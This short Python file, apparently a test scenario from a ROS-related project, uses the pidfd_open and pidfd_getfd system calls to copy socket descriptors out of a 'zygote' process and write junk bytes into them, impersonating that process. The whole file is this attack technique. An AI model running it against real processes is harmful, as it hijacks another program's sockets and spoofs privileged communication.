# Copyright 2026 The spatialclaw_ros authors
#
# Licensed under the Apache License, Version 2.0 (the "License");
# you may not use this file except in compliance with the License.
# You may obtain a copy of the License at
#
#     http://www.apache.org/licenses/LICENSE-2.0
#
# Unless required by applicable law or agreed to in writing, software
# distributed under the License is distributed on an "AS IS" BASIS,
# WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
# See the License for the specific language governing permissions and
# limitations under the License.

"""Take the zygote's control socket out of it, and say nonsense to the host in its name."""

# act: signal
# needs: tracing

import ctypes
import os
import stat

libc = ctypes.CDLL(None, use_errno=True)
pidfd = libc.syscall(434, ZYGOTE_PID, 0)
for number in range(3, 32):
    fd = libc.syscall(438, pidfd, number, 0)
    if fd >= 0 and stat.S_ISSOCK(os.fstat(fd).st_mode):
        print(number, os.write(fd, b'\x03\x00\x00\x00abc'))
# %% next session
print(1)
# %% next session
print(2)
